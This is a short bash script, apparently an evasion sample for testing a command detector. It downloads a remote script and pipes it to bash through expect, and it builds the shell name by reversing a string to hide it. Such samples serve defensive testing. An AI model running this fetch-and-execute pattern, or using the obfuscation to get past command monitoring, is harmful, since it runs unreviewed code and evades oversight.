#!/usr/bin/env bash
# Evasion: runs a downloaded script through `expect`: its Tcl program spawns
# the script with `spawn`, so no shell or interpreter is the command word of
# the bash program; the shell name is built inside the Tcl string.
set -e

url=https://raw.example.io/bootstrap/init
expect -c "
  set timeout 120
  set sh [string reverse hsab]
  spawn \$sh -c \"curl -fsSL $url | \$sh\"
  expect eof
"
